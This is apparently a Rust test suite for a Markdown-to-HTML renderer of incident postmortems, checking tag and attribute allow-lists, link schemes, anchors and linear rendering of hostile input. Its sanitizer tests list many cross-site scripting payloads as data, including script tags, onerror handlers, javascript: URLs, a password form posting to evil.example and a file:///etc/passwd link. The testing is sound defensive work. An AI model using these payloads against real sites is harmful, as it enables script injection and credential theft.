//! What a rendered document looks like, and what can be in none.

#![allow(clippy::unwrap_used)]

use proptest::prelude::*;

use std::collections::HashSet;

use super::*;
use crate::document::template::TEMPLATE;

fn rendered(text: &str) -> String {
    render(&Document::parse(text.as_bytes()), &Rendering::default()).html
}

const TAGS: &[&str] = &[
    "a",
    "abbr",
    "b",
    "bdi",
    "blockquote",
    "br",
    "caption",
    "cite",
    "code",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "u",
    "ul",
    "var",
    "wbr",
];
const ATTRIBUTES: &[&str] = &[
    "aria-label",
    "class",
    "colspan",
    "data-milestone",
    "data-priority",
    "data-status",
    "datetime",
    "href",
    "id",
    "rel",
    "role",
    "rowspan",
    "scope",
    "start",
    "tabindex",
];

/// HTML as a browser understands it, written out again: the same, or the browser sees something else than we wrote.
fn as_a_browser_reads_it(html: &str) -> String {
    let mut builder = ammonia::Builder::empty();
    builder
        .add_tags(TAGS)
        .generic_attributes(ATTRIBUTES.iter().copied().collect())
        .add_url_schemes(["http", "https", "mailto"])
        .url_relative(ammonia::UrlRelative::PassThrough)
        .link_rel(None);
    builder.clean(html).to_string()
}

fn same_for_a_browser(html: &str) -> Result<(), String> {
    harmless(html)?;
    let ours = html.replace("&#39;", "'").replace('\u{a0}', "&nbsp;").replace("&amp;nbsp;", "&nbsp;");
    let read = as_a_browser_reads_it(html).replace("&amp;nbsp;", "&nbsp;");
    if read == ours { Ok(()) } else { Err(format!("a browser reads\n{read}\n")) }
}

/// Reads HTML as strictly as it can be read, and refuses all that no document may bring into a page.
fn harmless(html: &str) -> Result<(), String> {
    let mut open = Vec::new();
    let mut ids = HashSet::new();
    let mut rest = html;
    while let Some(at) = rest.find(['<', '>']) {
        if rest[at..].starts_with('>') {
            return Err(format!("a bare `>` after {:?}", &rest[..at]));
        }
        let tag = &rest[at + 1..];
        let (is_close, tag) = tag.strip_prefix('/').map_or((false, tag), |tag| (true, tag));
        let end = tag.find(|ch: char| !ch.is_ascii_alphanumeric()).ok_or("a tag does not end")?;
        let name = &tag[..end];
        if !TAGS.contains(&name) {
            return Err(format!("a tag `{name}`"));
        }
        let mut tail = &tag[end..];
        while let Some(attribute) = tail.strip_prefix(' ') {
            let (key, value) = attribute.split_once("=\"").ok_or("an attribute without a value")?;
            let (value, after) = value.split_once('"').ok_or("a value without an end")?;
            if !ATTRIBUTES.contains(&key) || is_close {
                return Err(format!("an attribute `{key}`"));
            }
            if value.contains(['<', '>']) {
                return Err(format!("a value {value:?}"));
            }
            let is_address =
                ["http://", "https://", "mailto:", "HTTP"].iter().any(|scheme| value.starts_with(scheme))
                    || !value.split(['/', '?', '#']).next().unwrap().contains(':');
            if key == "href" && !is_address {
                return Err(format!("an address {value:?}"));
            }
            if key == "id" && !ids.insert(value.to_owned()) {
                return Err(format!("an ID twice: {value:?}"));
            }
            tail = after;
        }
        rest = tail.strip_prefix('>').ok_or_else(|| format!("a tag `{name}` that does not end"))?;
        if is_close {
            if open.pop() != Some(name) {
                return Err(format!("`</{name}>` closes another"));
            }
        } else if !matches!(name, "br" | "hr" | "wbr") {
            if name == "a" && open.contains(&"a") {
                return Err("a link in a link".to_owned());
            }
            open.push(name);
        }
    }
    if open.is_empty() { Ok(()) } else { Err(format!("left open: {open:?}")) }
}

#[test]
fn nothing_that_a_document_says_is_run_or_loaded() {
    const SCRIPT: &str = "<script>alert(1)</script>";
    let everywhere = [
        "# {}\n",
        "## Impact {}\n",
        "{}\n",
        "text {} text\n",
        "- **Severity**: {}\n",
        "- {}\n  - {}\n",
        "> {}\n",
        "**{}** *{}* `{}`\n",
        "[{}](https://a.example)\n",
        "![{}](https://a.example/i.png)\n",
        "```{}\n{}\n```\n",
        "    {}\n",
        "[a](<{}>)\n",
        "[a](https://a.example \"{}\")\n",
        "| a | {} |\n|---|---|\n| {} | `{}` |\n",
        "<!-- {} -->\n",
        "<div>{}</div>\n",
        "---\nstage: {}\n---\n\n# T\n",
        "1. {}\n",
        "- [ ] {}\n",
        "[{}]: https://a.example\n\n[{}]\n",
        "Setext {}\n===\n",
        "<{}>\n",
        "&lt;{}\n",
        "## Timeline\n\n| Time (UTC) | Actor | Action | Result |\n|---|---|---|---|\n| 2026-11-20 14:02 {} | {} | **Detected.** {} | {} |\n",
    ];
    let payloads = [
        SCRIPT,
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<script\n>alert(1)</script\n>",
        "</td></table><script>alert(1)</script>",
        "</code></pre><img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://evil.example/pixel.png\" alt='\"><script>'>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<object data=x></object><embed src=x>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<base href=\"https://evil.example/\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>*{background:url(https://evil.example)}</style>",
        "<form action=https://evil.example><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button></form>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\" onclick=alert(1)>x</a>",
        "<a href=\"https://a.example\" style=\"position:fixed;inset:0\" target=_top>x</a>",
        "<b onmouseover=alert(1) style=color:red id=main name=body class=finding>x</b>",
        "<details open ontoggle=alert(1)><summary>s</summary>x</details>",
        "<p id=impact name=forms>x</p>",
        "<template><script>alert(1)</script></template>",
        "<video src=https://evil.example/v onerror=alert(1)></video>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<!--><script>alert(1)</script>-->",
        "<!--x--!><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo 1 ?><script>alert(1)</script>",
        "<x-y onclick=alert(1)>x</x-y>",
        "javascript:alert(1)",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt&#58;alert(1))",
        "[x](&#1;javascript:alert(1))",
        "[x](java&#10;script:alert(1))",
        "<javascript:alert(1)>",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
        "[x](vbscript:msgbox(1))",
        "[x](file:///etc/passwd)",
        "[x](https://a.example/\"onclick=\"alert(1))",
        "[x](https://a.example/'onclick='alert(1))",
        "https://a.example/\"onmouseover=\"alert(1)",
        "https://a.example/<script>alert(1)</script>",
        "\" onclick=\"alert(1)",
        "' onclick='alert(1)",
        "\u{202e}txet desrever\u{202c}",
        "<a href=\"https://a.example\">[in](https://b.example)</a>",
        "[out <a href=\"https://a.example\">in</a>](https://b.example)",
        "[![alt](https://evil.example/i.png)](https://b.example)",
        "<a href=\"https://a.example\"><img src=\"https://evil.example/i.png\"></a>",
        "<b><i></b></i>",
        "</li></ul></div>",
        "<details><summary>",
    ];
    for place in everywhere {
        for payload in payloads {
            let text = place.replace("{}", payload);
            let html = rendered(&text);
            same_for_a_browser(&html).unwrap_or_else(|why| panic!("{why} in\n{html}\nof\n{text}"));
            assert!(!html.contains(super::escape::turns_text), "{html}");
        }
    }
}

#[test]
fn raw_html_that_only_marks_text_up_is_kept() {
    for (text, html) in [
        ("press <kbd>C</kbd><br>twice", "<p>press <kbd>C</kbd><br>twice</p>\n"),
        ("a <b>bold *and* more</b> c", "<p>a <b>bold <em>and</em> more</b> c</p>\n"),
        ("a <b>left open", "<p>a <b>left open</b></p>\n"),
        ("a </b> c", "<p>a  c</p>\n"),
        ("x <!-- recount: allow timeline-gap: y --> z", "<p>x  z</p>\n"),
        ("<!-- a -->\n", ""),
        (
            "<details>\n<summary>Log</summary>\n\n```\nx\n```\n\n</details>\n\nafter\n",
            "<details><summary>Log</summary><pre tabindex=\"0\"><code>x\n</code></pre>\n</details><p>after</p>\n",
        ),
        ("<details>\n\nx\n\n# H\n", "<details><p>x</p>\n</details><h1 id=\"s-h\">H</h1>\n"),
        (
            "see <a href=\"https://a.example/?a=1&amp;b\" onclick=\"x\">this</a>",
            "<p>see <a href=\"https://a.example/?a=1&amp;b\" rel=\"noopener noreferrer nofollow\">this</a></p>\n",
        ),
        (
            "<img width=600 alt=\"the graph\" src=\"https://a.example/g.png\">",
            "<a class=\"image\" href=\"https://a.example/g.png\" rel=\"noopener noreferrer nofollow\">the graph</a>",
        ),
        (
            "<table><tr><td colspan=2 style=\"x\">a</td></tr></table>\n",
            "<table><tbody><tr><td colspan=\"2\">a</td></tr></tbody></table>\n",
        ),
    ] {
        assert_eq!(rendered(text), html, "{text}");
    }
}

#[test]
fn links_lead_where_a_browser_only_goes() {
    let rel = " rel=\"noopener noreferrer nofollow\"";
    for (text, html) in [
        ("[a](https://a.example/x)", format!("<a href=\"https://a.example/x\"{rel}>a</a>")),
        ("<https://a.example>", format!("<a href=\"https://a.example\"{rel}>https://a.example</a>")),
        ("<ana@a.example>", "<a href=\"mailto:ana@a.example\">ana@a.example</a>".to_owned()),
        (
            "see https://a.example/a_b_c?x=1&y=2.",
            format!(
                "see <a href=\"https://a.example/a_b_c?x=1&amp;y=2\"{rel}>https://a.example/a_b_c?x=1&amp;y=2</a>."
            ),
        ),
        ("`https://a.example`", "<code>https://a.example</code>".to_owned()),
        ("[a](javascript:x)", "a".to_owned()),
        ("[a](../INC-0003.md)", "<a href=\"../INC-0003.md\">a</a>".to_owned()),
        (
            "![graph](https://a.example/g.png)",
            format!("<a class=\"image\" href=\"https://a.example/g.png\"{rel}>graph</a>"),
        ),
        (
            "![](https://a.example/g.png)",
            format!("<a class=\"image\" href=\"https://a.example/g.png\"{rel}>https://a.example/g.png</a>"),
        ),
        (
            "[![g](https://a.example/g.png)](https://b.example)",
            format!("<a href=\"https://b.example\"{rel}>g</a>"),
        ),
        ("[](https://a.example)", format!("<a href=\"https://a.example\"{rel}>https://a.example</a>")),
    ] {
        assert_eq!(rendered(text), format!("<p>{html}</p>\n"), "{text}");
    }
    let resolve = |path: &str| path.strip_suffix(".md").map(|name| format!("/p/{name}"));
    let options = Rendering { resolve: Some(&resolve), ..Rendering::default() };
    let document =
        Document::parse(b"[a](INC-1.md) [b](x.png) [c](#impact) [d](#notes)\n\n## Impact\n\n### Notes\n");
    let html = render(&document, &options).html;
    assert!(
        html.starts_with(
            "<p><a href=\"/p/INC-1\">a</a> b <a href=\"#impact\">c</a> <a href=\"#s-notes\">d</a></p>"
        ),
        "{html}"
    );
}

#[test]
fn everything_that_has_a_name_or_a_number_has_its_anchor() {
    let text = TEMPLATE
        .replace("- **Start time** (UTC):", "- **Start time** (UTC): 2026-11-20 14:02")
        .replace("- **End time** (UTC):", "- **End time** (UTC): 2026-11-20 **15:02**")
        .replacen("| | | | |\n", "| 2026-11-20 14:02 | shop | **Started.** x | |\n| | | | |\n| ~14:30 | TBD | y | |\n| 14:40 | @ana | z | |\n", 1)
        .replace("| P1 | | | | | |", "| P1 | Do it | @ana | 2026-12-01 | In progress | |");
    let html = rendered(&text);
    same_for_a_browser(&html).unwrap();
    for wanted in [
        "<h1 id=\"s-postmortem-template\">Postmortem template</h1>",
        "<p class=\"guidance\">Copy this file for each incident postmortem.</p>",
        "<h2 id=\"incident-summary\">Incident summary</h2>",
        "<li id=\"field-incident-id\" class=\"field blank\"><strong>Incident ID</strong>:</li>",
        "<li id=\"field-severity\" class=\"field placeholder\">",
        "(UTC): <time datetime=\"2026-11-20T14:02:00Z\">2026-11-20 14:02</time></li>",
        "<li id=\"field-end-time\" class=\"field\"><strong>End time</strong> (UTC): <time datetime=\"2026-11-20T15:02:00Z\">2026-11-20 <strong>15:02</strong></time></li>",
        "<li id=\"field-data-loss\" class=\"field placeholder\">Data loss: yes/no (details)</li>",
        "<div class=\"table timeline\" tabindex=\"0\" role=\"region\" aria-label=\"Timeline\">",
        "<th scope=\"col\" class=\"time\">Time (UTC)</th>",
        "<tr id=\"row-1\" class=\"milestone\" data-milestone=\"started\"><td class=\"time\"><time datetime=\"2026-11-20T14:02:00Z\">2026-11-20 14:02</time></td>",
        "<tr class=\"blank\"><td class=\"time blank\"></td>",
        "<tr id=\"row-2\"><td class=\"time\">~14:30</td><td class=\"actor placeholder\">TBD</td>",
        "<tr id=\"row-3\"><td class=\"time\"><time datetime=\"2026-11-20T14:40:00Z\">14:40</time></td>",
        "<tr id=\"action-1\" data-status=\"in-progress\" data-priority=\"p1\"><td class=\"priority right\">P1</td>",
        "<p class=\"guidance\">Priority guidance:</p>",
        "<li class=\"guidance\"><strong>P0</strong>: prevents",
        "<li id=\"field-metrics\" class=\"field blank\">What metrics should improve?</li>",
    ] {
        assert!(html.contains(wanted), "{wanted} is not in\n{html}");
    }
    let outline =
        render(&Document::parse(text.as_bytes()), &Rendering { title: false, ..Rendering::default() });
    assert!(
        outline
            .html
            .starts_with("<p class=\"guidance\">Copy this file for each incident postmortem.</p>\n<h2"),
        "{}",
        outline.html
    );
    let names: Vec<_> = outline.outline.iter().map(|heading| (heading.level, heading.id.as_str())).collect();
    assert_eq!(names[..3], [(2, "incident-summary"), (2, "impact"), (2, "detection")]);
    assert_eq!(outline.outline[4].text, "Root cause");
}

#[test]
fn what_is_attached_stands_beside_what_it_is_about() {
    let text = "---\nstage: drift\n---\n# T\n\n- **X**: y\n  - inner one\n  - inner two\n\nA paragraph\nof two lines.\n\n\
                ## Timeline\n\n| Time (UTC) | Actor | Action | Result |\n|---|---|---|---|\n| 14:02 | | z | |\n\n```\ncode\n```\n\n## Impact\n\n- **Regions impacted**:\n";
    let document = Document::parse(text.as_bytes());
    for (at, with) in [
        (text.find("drift").unwrap(), None),
        (text.find("# T").unwrap(), Some("<h1 id=\"s-t\">T</h1>\n!")),
        (text.find("y\n").unwrap(), Some("<strong>X</strong>: y!\n<ul>")),
        (text.find("inner one").unwrap(), Some("<li>inner one!</li>")),
        (text.find("inner two").unwrap(), Some("<li>inner two!</li>")),
        (text.find("of two").unwrap(), Some("of two lines.</p>\n!")),
        (
            text.find("14:02").unwrap(),
            Some("</tr>\n<tr class=\"attached\"><td colspan=\"4\">!</td></tr>\n</tbody>"),
        ),
        (
            text.find("| z | |").unwrap() + 7,
            Some("</tr>\n<tr class=\"attached\"><td colspan=\"4\">!</td></tr>\n</tbody>"),
        ),
        (
            text.find("| Actor").unwrap(),
            Some("<tbody>\n<tr class=\"attached\"><td colspan=\"4\">!</td></tr>\n<tr"),
        ),
        (text.find("|---|").unwrap() + 1, Some("</table>\n</div>\n!")),
        (text.find("code\n").unwrap(), Some("</code></pre>\n!")),
        (
            text.find("impacted**:").unwrap() + "impacted**:".len(),
            Some("<strong>Regions impacted</strong>:!</li>"),
        ),
        (text.len(), Some("!</li>\n</ul>\n")),
        (text.len() + 9, Some("</ul>\n!")),
    ] {
        let attachments = [(at as u32, "!".to_owned())];
        let out = render(&document, &Rendering { attachments: &attachments, ..Rendering::default() });
        match with {
            None => assert_eq!(out.before, "!"),
            Some(with) => assert!(out.html.contains(with), "{at}: {with} is not in\n{}", out.html),
        }
        assert_eq!(out.html.matches('!').count() + out.before.matches('!').count(), 1, "{at}");
    }
}

#[test]
fn hostile_sizes_stay_linear() {
    let deep = 20_000;
    for (name, text) in [
        ("quotes", ">".repeat(deep) + " x"),
        ("bullets", "- ".repeat(deep) + "x"),
        ("emphasis", "*a ".repeat(deep) + &"b*".repeat(deep)),
        ("brackets", "[".repeat(deep) + &"](https://a.example)".repeat(deep / 10)),
        ("tags", "<b>".repeat(deep)),
        ("foreign tags", "<b x=y>".repeat(deep)),
        ("divs", "<div>".repeat(deep)),
        ("divs with an attribute", "<div x=y>".repeat(deep)),
        ("a long line", "word ".repeat(2_000_000 / 5)),
        ("a long cell", format!("| a |\n|---|\n| {} |\n", "x ".repeat(500_000))),
        ("many rows", format!("| a | b |\n|---|---|\n{}", "| x | y |\n".repeat(deep))),
        ("many columns", format!("{}|\n{}|\n{}|\n", "|a".repeat(2000), "|-".repeat(2000), "|x".repeat(2000))),
        ("addresses", "https://a.example/x ".repeat(deep)),
        ("colons", "://".repeat(deep)),
        ("parentheses", format!("https://a.example/{}", ")".repeat(deep))),
        ("headings", "# a\n".repeat(deep)),
        ("comments", "<!-- a -->\n\n".repeat(deep)),
        ("links to nothing", "[a](#b) ".repeat(deep)),
    ] {
        let html = rendered(&text);
        harmless(&html).unwrap_or_else(|why| panic!("{why} in {name}"));
        assert!(html.len() < text.len() * 30 + 1000, "{name}: {} of {}", html.len(), text.len());
        let deepest = html.split('<').fold((0_i32, 0), |(now, most), tag| {
            let now = match tag.as_bytes().first() {
                Some(b'/') => now - 1,
                Some(_) if !tag.starts_with("br") && !tag.starts_with("hr") => now + 1,
                _ => now,
            };
            (now, most.max(now))
        });
        assert!(deepest.1 < 400 || name == "divs with an attribute", "{name}: {deepest:?}");
    }
}

fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("<script>"),
        Just("</script>"),
        Just("<b>"),
        Just("</b>"),
        Just("<a href=\"https://a.example\">"),
        Just("</a>"),
        Just("<!--"),
        Just("-->"),
        Just("<img src=x onerror=y>"),
        Just("<details>"),
        Just("</details>"),
        Just("<summary>"),
        Just("| "),
        Just("|---|---|\n"),
        Just("\n"),
        Just("\n\n"),
        Just("- "),
        Just("  "),
        Just("> "),
        Just("# "),
        Just("**"),
        Just("*"),
        Just("`"),
        Just("```\n"),
        Just("["),
        Just("]("),
        Just(")"),
        Just("!["),
        Just("javascript:"),
        Just("https://"),
        Just("a"),
        Just("\\"),
        Just("&lt;"),
        Just("&#x202e;"),
        Just("\u{202e}"),
        Just("\""),
        Just("'"),
        Just("<"),
        Just(">"),
        Just("## Timeline\n\n| Time (UTC) | Actor | Action | Result |\n|---|---|---|---|\n"),
        Just("14:02"),
        Just("2026-11-20 14:02"),
        Just("- **Start time** (UTC): "),
        Just("## Incident summary\n\n"),
        Just("1. "),
        Just("---\n"),
        Just("    "),
        Just("\t"),
        Just("\r\n"),
        Just("<div x=y>"),
        Just("</div>"),
        Just("[x]: y\n"),
        Just("é"),
    ];
    prop::collection::vec(piece, 0..60).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn any_bytes_render_harmlessly(bytes in prop::collection::vec(any::<u8>(), 0..400)) {
        let document = Document::parse(&bytes);
        let html = render(&document, &Rendering::default()).html;
        prop_assert!(harmless(&html).is_ok(), "{:?} in\n{html}", harmless(&html));
    }

    #[test]
    fn any_markdown_renders_harmlessly_with_all_that_is_attached(text in hostile(), places in prop::collection::vec(0_u32..500, 0..8)) {
        let document = Document::parse(text.as_bytes());
        let attachments: Vec<_> = places.iter().map(|at| (*at, "<kbd></kbd>".to_owned())).collect();
        let out = render(&document, &Rendering { attachments: &attachments, ..Rendering::default() });
        let read = same_for_a_browser(&out.html);
        prop_assert!(read.is_ok(), "{read:?} in\n{}", out.html);
        let shown = out.html.matches("<kbd></kbd>").count() + out.before.matches("<kbd></kbd>").count();
        prop_assert_eq!(shown, places.len(), "{}", out.html);
    }
}

#[test]
fn the_example_library_reads_as_its_authors_wrote_it() {
    for (snapshot, text) in [
        (
            "INC-0003-retry-storm-after-cache-flush",
            include_str!(
                "../../../../../examples/postmortems/2025/INC-0003-retry-storm-after-cache-flush.md"
            ),
        ),
        (
            "INC-0012-fees-charged-twice",
            include_str!("../../../../../examples/postmortems/2026/INC-0012-fees-charged-twice.md"),
        ),
        (
            "INC-0014-page-nobody-answered",
            include_str!("../../../../../examples/postmortems/2026/INC-0014-page-nobody-answered.md"),
        ),
    ] {
        let html = rendered(text);
        same_for_a_browser(&html).unwrap();
        insta::with_settings!({ prepend_module_to_snapshot => false, omit_expression => true }, {
            insta::assert_snapshot!(snapshot, html);
        });
    }
}
